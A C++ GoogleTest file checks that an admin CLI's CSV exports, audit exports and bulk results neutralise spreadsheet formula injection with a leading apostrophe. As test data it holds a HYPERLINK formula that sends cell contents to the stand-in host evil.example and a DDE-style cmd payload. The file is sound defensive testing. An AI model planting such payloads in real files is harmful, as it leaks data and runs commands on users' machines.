// CSV formula injection (CWE-1236): a value that a spreadsheet would evaluate is written
// with a leading apostrophe in every CSV admin365 writes (`-o csv`, audit exports, bulk
// results), while the tenant keeps the value as it was given.

#include <gmock/gmock.h>

#include <fstream>
#include <sstream>

#include "cli/cli_runner.h"

namespace admin365::testing {
namespace {

using ::testing::HasSubstr;

constexpr char kHyperlink[] = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";

class CsvOutputCli : public CliTest {
 protected:
  void SetUp() override {
    CliTest::SetUp();
    InitTenant();
  }

  void TearDown() override {
    std::filesystem::remove(input_);
    std::filesystem::remove(results_);
    CliTest::TearDown();
  }

  std::filesystem::path input_;
  std::filesystem::path results_;
};

TEST_F(CsvOutputCli, UserListNeutralisesEachLeadingFormulaCharacter) {
  AddUser("eve@contoso.com", kHyperlink,
          {"--job-title", "+cmd|' /C calc'!A0", "--department", "@SUM(1+1)", "--office",
           "-2+3", "--city", "Redmond"});
  const CliRun csv = Run({"user", "list", "--select",
                          "displayName,jobTitle,department,officeLocation,city", "-o", "csv"});
  EXPECT_EQ(csv.exit_code, 0) << csv.err;
  EXPECT_EQ(csv.out,
            "\"displayName\",\"jobTitle\",\"department\",\"officeLocation\",\"city\"\n"
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\","
            "\"'+cmd|' /C calc'!A0\",\"'@SUM(1+1)\",\"'-2+3\",\"Redmond\"\n");
  // The tenant keeps the values as given; JSON and tables show them unchanged.
  const boost::json::value user = Json({"user", "get", "eve@contoso.com"});
  EXPECT_EQ(user.at("displayName"), kHyperlink);
  EXPECT_EQ(user.at("jobTitle"), "+cmd|' /C calc'!A0");
  EXPECT_EQ(user.at("department"), "@SUM(1+1)");
  EXPECT_EQ(user.at("officeLocation"), "-2+3");
}

// A UPN may begin with '-' (Entra allows it): the audit export's target cell is
// neutralised; values inside a longer cell ("department: (none) -> =1+1") are not formulas.
TEST_F(CsvOutputCli, AuditExportNeutralisesCellsThatBeginLikeAFormula) {
  const std::string id = AddUser("-eve@contoso.com", "Eve");
  ASSERT_EQ(Run({"user", "set", id, "--department", "=1+1"}).exit_code, 0);
  const CliRun audit = Run({"audit", "list", "--limit", "1", "-o", "csv"});
  EXPECT_EQ(audit.exit_code, 0) << audit.err;
  const std::string line = audit.out.substr(audit.out.find('\n') + 1);
  EXPECT_THAT(line, HasSubstr(",\"Update user\",\"User\",\"" + id +
                              "\",\"'-eve@contoso.com\",\"department: (none) -> =1+1\"\n"));
}

// An exported file fed back to a bulk job reads as the values it was written from, and the
// job's results file neutralises them again.
TEST_F(CsvOutputCli, ExportedValuesSurviveABulkRoundTrip) {
  AddUser("eve@contoso.com", "Eve", {"--mobile-phone", "+1 4255550100"});
  const CliRun exported =
      Run({"user", "list", "--select", "userPrincipalName,mobilePhone,jobTitle", "-o", "csv"});
  ASSERT_EQ(exported.exit_code, 0) << exported.err;
  std::string text = exported.out;
  // The admin edits the job title in the exported file to a value starting with '-'.
  const std::string empty_title = "\"'+1 4255550100\",\"\"";
  ASSERT_THAT(text, HasSubstr(empty_title));
  text.replace(text.find(empty_title), empty_title.size(), "\"'+1 4255550100\",\"'-lead\"");
  input_ = data_dir_.string() + "-export.csv";
  results_ = data_dir_.string() + "-results.csv";
  std::ofstream(input_, std::ios::binary) << text;
  const CliRun run = Run({"bulk", "run", "update", input_.string(), "--results", results_.string()});
  EXPECT_EQ(run.exit_code, 0) << run.err;
  const boost::json::value user = Json({"user", "get", "eve@contoso.com"});
  EXPECT_EQ(user.at("mobilePhone"), "+1 4255550100");
  EXPECT_EQ(user.at("jobTitle"), "-lead");
  std::ifstream results(results_, std::ios::binary);
  std::stringstream written;
  written << results.rdbuf();
  EXPECT_EQ(written.str().substr(0, written.str().find("\r\n") + 2),
            "\"userPrincipalName\",\"mobilePhone\",\"jobTitle\",\"row\",\"line\",\"status\","
            "\"errorCode\",\"errorMessage\",\"field\",\"objectId\"\r\n");
  EXPECT_THAT(written.str(),
              HasSubstr("\"eve@contoso.com\",\"'+1 4255550100\",\"'-lead\",\"1\",\"2\","));
}

}  // namespace
}  // namespace admin365::testing
